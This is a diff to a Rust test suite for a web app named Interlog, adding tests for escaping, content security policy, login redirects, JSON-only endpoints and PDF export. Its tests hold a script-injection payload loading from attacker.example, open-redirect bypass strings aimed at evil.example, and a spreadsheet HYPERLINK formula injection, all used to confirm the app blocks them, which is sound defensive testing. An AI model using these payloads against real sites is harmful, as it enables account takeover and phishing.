@@ -73,6 +73,7 @@ async fn test_app(engine: Engine) -> TestApp {
             sessions: SessionPolicy::default(),
             trust_proxy: true,
             public_url: "http://interlog.test".into(),
+            demo_accounts: true,
         }),
         outbox: Default::default(),
     };
@@ -117,6 +118,9 @@ macro_rules! on_both_engines {
     };
 }
 
+#[path = "http/hostile.rs"]
+mod hostile;
+
 /// Sends a request as the demo admin.
 async fn send(app: &TestApp, request: Request<Body>) -> (StatusCode, String) {
     send_as(app, Some(&app.admin), request).await
@@ -154,9 +158,19 @@ fn post_json(path: &str, body: &str) -> Request<Body> {
 }
 
 /// The text a PDF shows, one string per `Tj`, decoded from WinAnsi (Latin-1
-/// for the characters these tests use).
+/// for the characters these tests use). Page contents are compressed: each
+/// stream is inflated first.
 fn pdf_text(pdf: &[u8]) -> Vec<String> {
-    let text = String::from_utf8_lossy(pdf);
+    let mut contents = Vec::new();
+    let mut rest = pdf;
+    while let Some(start) = find(rest, b"stream\n") {
+        let data = &rest[start + b"stream\n".len()..];
+        let end = find(data, b"\nendstream").expect("every stream ends");
+        contents.extend(miniz_oxide::inflate::decompress_to_vec_zlib(&data[..end]).expect("a deflated page"));
+        contents.push(b'\n');
+        rest = &data[end + b"\nendstream".len()..];
+    }
+    let text = String::from_utf8_lossy(&contents);
     text.lines()
         .filter_map(|line| line.strip_suffix(" Tj"))
         .map(|shown| {
@@ -168,6 +182,10 @@ fn pdf_text(pdf: &[u8]) -> Vec<String> {
             }
         })
         .collect()
+}
+
+fn find(haystack: &[u8], needle: &[u8]) -> Option<usize> {
+    haystack.windows(needle.len()).position(|w| w == needle)
 }
 
 /// Sends a request; returns the status, the `Location` header and the body.
@@ -347,10 +365,10 @@ on_both_engines! {
     }
 
     fn a_cross_site_form_cannot_rename(app) {
-        // Server functions take JSON: a plain HTML form from another site cannot
-        // send that without a CORS preflight, which we never grant.
+        // Server functions take JSON only: a plain HTML form from another site
+        // cannot send that without a CORS preflight, which we never grant.
         let (status, _) = send(&app, post_form("/api/rename_description", "id=7&description=Forged")).await;
-        assert_eq!(status, StatusCode::BAD_REQUEST);
+        assert_eq!(status, StatusCode::UNSUPPORTED_MEDIA_TYPE);
         assert_eq!(revisions(&app.store, 7).await, 0);
     }
 
@@ -393,6 +411,131 @@ on_both_engines! {
         assert_eq!(status, StatusCode::OK);
         assert!(!html.contains("<script>alert(1)</script>"));
         assert!(html.contains("&lt;script&gt;alert(1)&lt;/script&gt;"));
+    }
+
+    fn user_text_in_the_title_stays_text(app) {
+        // A Staff member names a person so that an admin opening the profile
+        // would run their script (which could make them Admin).
+        let tom = sign_in(&app, STAFF).await;
+        let payload = "</title><script src=//attacker.example/x.js></script>";
+        let body = serde_json::json!({ "person": { "name": payload, "email": "", "phone": "" } }).to_string();
+        let (status, id) = send_as(&app, Some(&tom), post_json("/api/add_person", &body)).await;
+        assert_eq!(status, StatusCode::OK, "{id}");
+        let (status, html) = send(&app, get(&format!("/people/{id}"))).await;
+        assert_eq!(status, StatusCode::OK);
+        assert!(!html.contains("<script src=//attacker"), "{html}");
+        assert!(html.contains("<title>&lt;/title&gt;&lt;script src=//attacker.example/x.js&gt;&lt;/script&gt; · Interlog</title>"), "{html}");
+        // An interaction's title is its description.
+        let (status, _) =
+            send(&app, post_json("/api/rename_description", &serde_json::json!({ "id": 9, "description": payload }).to_string())).await;
+        assert_eq!(status, StatusCode::OK);
+        let (_, html) = send(&app, get("/interactions/9")).await;
+        assert!(!html.contains("<script src=//attacker"), "{html}");
+        assert_eq!(html.matches("<title>").count(), 1);
+    }
+
+    fn every_page_carries_a_content_security_policy_with_its_own_nonce(app) {
+        let mut nonces = std::collections::BTreeSet::new();
+        for path in ["/log", "/", "/people", "/no-such-page", "/login"] {
+            let cookie = if path == "/login" { None } else { Some(app.admin.as_str()) };
+            let mut request = get(path);
+            if let Some(cookie) = cookie {
+                request.headers_mut().insert(header::COOKIE, cookie.parse().unwrap());
+            }
+            let response = app.router.clone().oneshot(request).await.unwrap();
+            let headers = response.headers().clone();
+            let html = String::from_utf8(to_bytes(response.into_body(), 16 << 20).await.unwrap().to_vec()).unwrap();
+            let policy = headers[header::CONTENT_SECURITY_POLICY].to_str().unwrap().to_string();
+            let nonce = policy.split("'nonce-").nth(1).and_then(|rest| rest.split('\'').next()).expect(&policy).to_string();
+            for directive in ["script-src 'self' 'nonce-", "object-src 'none'", "base-uri 'none'", "frame-ancestors 'none'"] {
+                assert!(policy.contains(directive), "{path}: {policy}");
+            }
+            let scripts_rule = policy.split(';').find(|d| d.trim().starts_with("script-src")).unwrap();
+            assert!(!scripts_rule.contains("unsafe-inline") && !scripts_rule.contains('*'), "{policy}");
+            // Every inline script carries this response's nonce.
+            let scripts = html.matches("<script").count();
+            assert!(scripts > 0, "{path}");
+            assert_eq!(html.matches(&format!("<script nonce=\"{nonce}\"")).count() + html.matches(&format!("<script type=\"module\" nonce=\"{nonce}\"")).count(), scripts, "{path}: {html}");
+            assert!(nonces.insert(nonce), "a nonce is never reused");
+            assert_eq!(headers[header::CACHE_CONTROL], "no-store", "{path}");
+            assert_eq!(headers["cross-origin-opener-policy"], "same-origin");
+            assert!(headers["permissions-policy"].to_str().unwrap().contains("camera=()"));
+            assert_eq!(headers[header::X_FRAME_OPTIONS], "DENY");
+        }
+        let response = app.router.clone().oneshot({
+            let mut r = post_json("/api/whoami", "{}");
+            r.headers_mut().insert(header::COOKIE, app.admin.parse().unwrap());
+            r
+        }).await.unwrap();
+        assert_eq!(response.headers()[header::CACHE_CONTROL], "no-store", "server functions are never cached");
+        // The demo data's accounts have a published password: every page says so.
+        let (_, html) = send(&app, get("/log")).await;
+        assert!(html.contains("data-testid=\"demo-banner\""));
+    }
+
+    fn sign_in_never_leads_to_another_site_nor_fails_on_odd_characters(app) {
+        // Signed in, /login goes on to `next`: only a plain local path.
+        for next in ["/%09/evil.example", "/%0A/evil.example", "/%0D%0A/evil.example", "/%0B/evil.example", "/%7F", "/%5Cevil.example", "%2F%2Fevil.example", "https://evil.example"] {
+            let (status, location, _) = respond(&app, Some(&app.admin), get(&format!("/login?next={next}"))).await;
+            assert_eq!((status, location.as_str()), (StatusCode::SEE_OTHER, "/"), "GET next={next}");
+            let decoded = form_urlencoded::parse(format!("next={next}").as_bytes()).next().unwrap().1.into_owned();
+            let (status, location, _) = respond(&app, None, login_form(STAFF, DEMO_PASSWORD, &decoded)).await;
+            assert_eq!((status, location.as_str()), (StatusCode::SEE_OTHER, "/"), "POST next={next}");
+        }
+        // A refused sign-in carries `next` back to the form: home, for these.
+        for next in ["/\t/evil.example", "/\r\n/evil.example"] {
+            let (status, location, _) = respond(&app, None, login_form(READ_ONLY, "wrong password", next)).await;
+            assert_eq!((status, location.as_str()), (StatusCode::SEE_OTHER, "/login?error=invalid&next=%2F"), "POST next={next:?}");
+        }
+        // A local path with a space or an accented letter still goes through.
+        let (status, location, _) = respond(&app, Some(&app.admin), get("/login?next=%2Flog%3Fq%3Dcaf%C3%A9+au")).await;
+        assert_eq!((status, location.as_str()), (StatusCode::SEE_OTHER, "/log?q=caf%C3%A9%20au"));
+        // Over HTTPS (as a trusted proxy says) the cookie is `__Host-` and Secure.
+        let mut secure = login_form(STAFF, DEMO_PASSWORD, "/log");
+        secure.headers_mut().insert("x-forwarded-proto", "https".parse().unwrap());
+        let response = app.router.clone().oneshot(secure).await.unwrap();
+        let set_cookie = response.headers()[header::SET_COOKIE].to_str().unwrap().to_string();
+        assert!(set_cookie.starts_with("__Host-interlog_session=") && set_cookie.contains("Secure") && set_cookie.contains("Path=/"), "{set_cookie}");
+        assert!(!set_cookie.contains("Domain"), "{set_cookie}");
+        let cookie = set_cookie.split(';').next().unwrap().to_string();
+        let mut page = get("/log");
+        page.headers_mut().insert("x-forwarded-proto", "https".parse().unwrap());
+        let (status, _) = send_as(&app, Some(&cookie), page).await;
+        assert_eq!(status, StatusCode::OK);
+        // The plain name is not read over HTTPS: a neighbour could have set it.
+        let plain = cookie.replace("__Host-", "");
+        let mut page = get("/log");
+        page.headers_mut().insert("x-forwarded-proto", "https".parse().unwrap());
+        let (status, _, _) = respond(&app, Some(&plain), page).await;
+        assert_eq!(status, StatusCode::SEE_OTHER);
+    }
+
+    fn server_functions_read_only_json_of_a_bounded_size(app) {
+        let before = snapshot(&app.store).await;
+        let body = r#"{"id":7,"description":"Changed by a form post"}"#;
+        for content_type in ["text/plain", "text/plain;charset=UTF-8", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", ""] {
+            let mut request = post_json("/api/rename_description", body);
+            if content_type.is_empty() {
+                request.headers_mut().remove(header::CONTENT_TYPE);
+            } else {
+                request.headers_mut().insert(header::CONTENT_TYPE, content_type.parse().unwrap());
+            }
+            let (status, text) = send(&app, request).await;
+            assert_eq!((status, text.as_str()), (StatusCode::UNSUPPORTED_MEDIA_TYPE, r#""NotJson""#), "{content_type}");
+        }
+        let huge = format!(r#"{{"id":7,"description":"{}"}}"#, "x".repeat(300 * 1024));
+        let (status, text) = send(&app, post_json("/api/rename_description", &huge)).await;
+        assert_eq!(status, StatusCode::PAYLOAD_TOO_LARGE, "{text}");
+        assert!(text.contains("limited to 256 KB"), "{text}");
+        // Without a declared length too (a chunked body).
+        let mut chunked = post_json("/api/rename_description", "");
+        chunked.headers_mut().remove(header::CONTENT_LENGTH);
+        *chunked.body_mut() = Body::from_stream(futures_util::stream::iter(
+            (0..40).map(|_| Ok::<_, std::convert::Infallible>(vec![b' '; 8 * 1024])),
+        ));
+        let (status, _) = send(&app, chunked).await;
+        assert_eq!(status, StatusCode::PAYLOAD_TOO_LARGE);
+        assert_eq!(snapshot(&app.store).await, before, "nothing changed");
     }
 
     fn pages_need_sign_in_and_come_back_after_it(app) {
@@ -708,6 +851,9 @@ on_both_engines! {
             (Some(&token), format!(r#"{{"person":{ada},"type":1,"note":"   ","source":"call"}}"#), StatusCode::BAD_REQUEST, "The note cannot be empty."),
             (Some(&token), format!(r#"{{"person":{ada},"type":1,"note":"x","occurred_at":"2999-01-01T00:00:00Z","source":"call"}}"#), StatusCode::BAD_REQUEST, "cannot be in the future"),
             (Some(&token), format!(r#"{{"person":{ada},"type":1,"note":"x","occurred_at":"yesterday","source":"call"}}"#), StatusCode::BAD_REQUEST, "RFC 3339"),
+            // The form's rules hold for the API too: no year 0000.
+            (Some(&token), format!(r#"{{"person":{ada},"type":1,"note":"x","occurred_at":"0000-01-01T00:00:00Z","source":"call"}}"#), StatusCode::BAD_REQUEST, "after 1900"),
+            (Some(&token), format!(r#"{{"person":{ada},"type":1,"note":"x","occurred_at":"1899-12-31T23:59:59Z","source":"call"}}"#), StatusCode::BAD_REQUEST, "after 1900"),
             (Some(&token), r#"{"person":999999,"type":1,"note":"x","source":"call"}"#.into(), StatusCode::NOT_FOUND, "no person with id 999999"),
             (Some(&token), r#"{"person":"nobody@example.org","type":1,"note":"x","source":"call"}"#.into(), StatusCode::NOT_FOUND, "Nobody on record"),
             (Some(&token), format!(r#"{{"person":{ada},"type":"Teleport","note":"x","source":"call"}}"#), StatusCode::NOT_FOUND, "no interaction type"),
@@ -881,7 +1027,7 @@ on_both_engines! {
 
         // A description a spreadsheet would run as a formula stays text.
         let ids = staff_ids(&app.store).await;
-        app.store.rename_description(7, "=HYPERLINK(\"http://evil.example\")", ids[ADMIN], app::server::store::now_millis()).await.unwrap();
+        app.store.rename_description(7, "=HYPERLINK(\"http://evil.example\")", ids[ADMIN], app::server::time::now_millis()).await.unwrap();
 
         let download = |path: &'static str, cookie: String| {
             let router = app.router.clone();
@@ -895,7 +1041,7 @@ on_both_engines! {
             }
         };
         let store = app.store.clone();
-        let log_ids = move |q: app::model::LogQuery| {
+        let log_ids = move |q: app::log::LogQuery| {
             let store = store.clone();
             async move { store.export_interactions(&q, chrono_tz::Europe::London, 100_000).await.unwrap().rows }
         };
@@ -911,7 +1057,7 @@ on_both_engines! {
         let mut reader = csv::Reader::from_reader(&body[3..]);
         assert_eq!(&reader.headers().unwrap()[1], "When (Europe/London)");
         let records: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
-        let expected = log_ids(app::model::LogQuery { sort: app::model::SortColumn::Person, dir: Some(app::model::SortDir::Asc), ..Default::default() }).await;
+        let expected = log_ids(app::log::LogQuery { sort: app::log::SortColumn::Person, dir: Some(app::log::SortDir::Asc), ..Default::default() }).await;
         assert_eq!(records.len(), 150, "all 150 interactions, not one page");
         assert_eq!(records.iter().map(|r| r[0].parse::<i64>().unwrap()).collect::<Vec<_>>(), expected.iter().map(|r| r.id).collect::<Vec<_>>());
         let seven = records.iter().find(|r| &r[0] == "7").unwrap();
@@ -926,7 +1072,7 @@ on_both_engines! {
         assert!(headers[header::CONTENT_TYPE].to_str().unwrap().contains("spreadsheetml"));
         let mut book: calamine::Xlsx<_> = calamine::open_workbook_from_rs(Cursor::new(body)).unwrap();
         let sheet = calamine::Reader::worksheet_range(&mut book, "Interactions").unwrap();
-        let expected = log_ids(app::model::LogQuery { types: vec![1], ..Default::default() }).await;
+        let expected = log_ids(app::log::LogQuery { types: vec![1], ..Default::default() }).await;
         assert!(!expected.is_empty());
         assert_eq!(sheet.height(), expected.len() + 1);
         assert_eq!(sheet.get((0, 3)).unwrap().to_string(), "Description");
@@ -942,11 +1088,20 @@ on_both_engines! {
         let (ok, headers, body) = download(path, olivia).await;
         assert!(ok, "{}", String::from_utf8_lossy(&body));
         assert_eq!(headers[header::CONTENT_TYPE], "application/pdf");
+        // Asked for compression as a browser asks, a PDF still streams as
+        // written, whole: its pages are deflated already.
+        let mut request = get(path);
+        request.headers_mut().insert(header::COOKIE, app.admin.parse().unwrap());
+        request.headers_mut().insert(header::ACCEPT_ENCODING, "gzip, br".parse().unwrap());
+        let response = app.router.clone().oneshot(request).await.unwrap();
+        assert!(response.headers().get(header::CONTENT_ENCODING).is_none());
+        let whole = to_bytes(response.into_body(), 64 << 20).await.unwrap();
+        assert!(whole.trim_ascii_end().ends_with(b"%%EOF"));
         assert!(body.starts_with(b"%PDF-") && body.trim_ascii_end().ends_with(b"%%EOF"));
         let lines = pdf_text(&body);
         assert_eq!(lines[0], "Interaction log");
         assert_eq!(lines[1], format!("Person: {} · Sorted by Timestamp, newest first", expected[0].person_name));
-        let theirs = log_ids(app::model::LogQuery { person: Some(person), ..Default::default() }).await;
+        let theirs = log_ids(app::log::LogQuery { person: Some(person), ..Default::default() }).await;
         // Headings, then the first row's cells: id first.
         let first_cell = lines.iter().position(|l| l == "Tags").unwrap() + 1;
         assert_eq!(lines[first_cell], theirs[0].id.to_string());
@@ -963,10 +1118,11 @@ on_both_engines! {
         .fetch_all(app.store.pool())
         .await
         .unwrap();
-        assert_eq!(audited.len(), 3, "{audited:?}");
+        assert_eq!(audited.len(), 4, "{audited:?}");
         assert_eq!(audited[0], ("CSV, 150 interactions: Sorted by Person, A to Z".to_string(), Some(ids[ADMIN])));
         assert!(audited[1].0.starts_with(&format!("Excel, {} interactions: Types: ", expected.len())), "{:?}", audited[1]);
         assert_eq!(audited[2].1, Some(ids[READ_ONLY]));
+        assert_eq!(audited[3].1, Some(ids[ADMIN]), "the compressed request's PDF");
 
         // The print view renders the whole view on the server, escaped.
         let (status, html) = send(&app, get("/log/print?q=hyperlink")).await;
